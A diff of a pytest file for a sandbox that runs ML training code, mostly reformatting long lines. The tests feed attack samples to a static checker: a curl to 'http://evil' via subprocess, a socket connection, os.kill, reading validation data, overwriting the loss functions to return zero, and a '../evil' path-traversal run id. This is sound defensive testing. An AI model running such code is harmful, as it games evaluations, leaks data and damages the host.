@@ -153,11 +153,14 @@ def test_unbounded_memory_is_killed(home, genome):
 @pytest.mark.parametrize("attack, reason", [
     ("data = open(str(run.train_bin).replace('train.bin', 'val.bin'), 'rb').read()\n",
      "use of 'open' is not allowed"),
-    ("import socket\nsocket.create_connection(('127.0.0.1', 22))\n", "import of 'socket' is not allowed"),
-    ("import subprocess\nsubprocess.run(['curl', 'http://evil'])\n", "import of 'subprocess' is not allowed"),
+    ("import socket\nsocket.create_connection(('127.0.0.1', 22))\n",
+     "import of 'socket' is not allowed"),
+    ("import subprocess\nsubprocess.run(['curl', 'http://evil'])\n",
+     "import of 'subprocess' is not allowed"),
     ("F.cross_entropy = lambda logits, y, **k: torch.zeros(())\n",
-     "assignment to 'F.cross_entropy' (an attribute of an imported module or object) is not allowed"),
-    ("torch.Tensor.log_softmax = lambda self, dim: self * 0\n", "assignment to 'torch.Tensor.log_softmax'"),
+     "assignment to 'F.cross_entropy' (an attribute of an imported module or object)"),
+    ("torch.Tensor.log_softmax = lambda self, dim: self * 0\n",
+     "assignment to 'torch.Tensor.log_softmax'"),
     ("import os\nos.kill(1, 9)\n", "'os.kill' is not allowed"),
 ])
 def test_static_attacks_are_rejected_before_anything_runs(home, genome, attack, reason):
@@ -212,7 +215,8 @@ def test_summary_parsing_is_defensive(tmp_path):
 
     calls = []
     out = _TrainingOutput(LogFile(tmp_path / "log"), lambda f, l: calls.append((f, l)))
-    for line in ["progress: 0.5 loss: 3.25 step: 7", "progress: 1.5 loss: 2.0", "progress: nan loss: 1",
+    for line in ["progress: 0.5 loss: 3.25 step: 7", "progress: 1.5 loss: 2.0",
+                 "progress: nan loss: 1",
                  "progress: 0.7 loss: inf", "---", "val_bpb: 0.0001", "training_seconds: inf",
                  "num_steps: 12abc", "total_tokens_M: -5", "num_params_M: 1e400",
                  "peak_vram_mb: 123.5", "mfu_percent:   7.5   "]:
@@ -231,7 +235,8 @@ def test_wall_limits():
     assert training_wall_limit(parse_budget("60s"), "cpu") == pytest.approx(30 + 66)
     assert training_wall_limit(parse_budget("300s"), "cuda") == pytest.approx(150 + 330)
     # Token budgets: a generous cap, 10x the typical time on the device.
-    assert training_wall_limit(parse_budget("300ktok"), "cpu") == pytest.approx(30 + 10 * 300_000 / 7000)
+    expected = 30 + 10 * 300_000 / 7000
+    assert training_wall_limit(parse_budget("300ktok"), "cpu") == pytest.approx(expected)
     assert training_wall_limit(parse_budget("1ktok"), "cpu") == pytest.approx(90)
 
 
@@ -277,7 +282,8 @@ def test_weights_are_copied_only_from_a_plain_file(tmp_path, genome):
 
 def test_workspace_layout(tmp_path, genome):
     ws = _workspace(tmp_path, genome)
-    assert sorted(p.name for p in ws.work.iterdir()) == ["out", "prepare.py", "run.json", "train.py"]
+    names = sorted(p.name for p in ws.work.iterdir())
+    assert names == ["out", "prepare.py", "run.json", "train.py"]
     assert (ws.work / "prepare.py").read_bytes() == (genome / "prepare.py").read_bytes()
     with pytest.raises(ValueError, match="run id"):
         create_workspace(tmp_path, "x", genome / "prepare.py", CONFIG, run_id="../evil")
@@ -293,7 +299,7 @@ def test_real_genome_end_to_end(tmp_path):
     from genome import base_train_source
 
     result = run_experiment(base_train_source(), home=tmp_path / "home", device="cpu",
-                            budget="8ktok", seed=1)
+                            budget="8ktok", seed=1, wall_limit_s=900)
     assert result.status == "ok", result.summary() + "\n" + result.log_tail
     assert 1.0 < result.val_bpb < 20.0
     assert result.tokens == 8 * 1024 and result.params > 1_000_000
